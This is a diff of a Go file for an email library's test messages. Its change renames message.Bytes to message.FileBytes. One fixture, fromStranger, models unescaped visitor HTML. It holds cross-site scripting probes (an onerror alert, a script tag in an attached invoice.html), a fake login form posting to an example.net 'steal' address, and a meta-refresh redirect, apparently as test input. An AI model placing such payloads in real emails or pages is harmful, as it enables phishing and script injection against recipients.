@@ -47,13 +47,13 @@ func welcome(b message.Builder, logo []byte) message.Builder {
 <h1>Good to have you here</h1>
 <p>Please <a href="https://shop.example.org/confirm?token=1">confirm your address</a>.</p>
 </td></tr></table></td></tr></table>`).
-		Inline("logo", message.Bytes("logo.png", logo))
+		Inline("logo", message.FileBytes("logo.png", logo))
 }
 
 func order(b message.Builder) message.Builder {
 	return b.Subject("Your order 2027-0042").Bcc("archive@example.org").
 		Text("Thank you! The list is attached.\n").
-		Attach(message.Bytes("Bestellung für Hei.csv", []byte("article;number\r\ntea;3\r\n")))
+		Attach(message.FileBytes("Bestellung für Hei.csv", []byte("article;number\r\ntea;3\r\n")))
 }
 
 // fromStranger is what comes out when an application puts what a visitor wrote into its HTML as it is.
@@ -64,7 +64,7 @@ func fromStranger(b message.Builder) message.Builder {
 <img src="https://tracker.example.net/pixel.png" onerror="alert(1)" alt="a picture from elsewhere">
 <form action="https://example.net/steal"><input value="password"> <button>Log in</button></form>
 <meta http-equiv="refresh" content="0; url=https://example.net/">`).
-		Attach(message.Bytes("invoice.html", []byte("<script>alert(document.domain)</script>")))
+		Attach(message.FileBytes("invoice.html", []byte("<script>alert(document.domain)</script>")))
 }
 
 // drawLogo returns a picture.
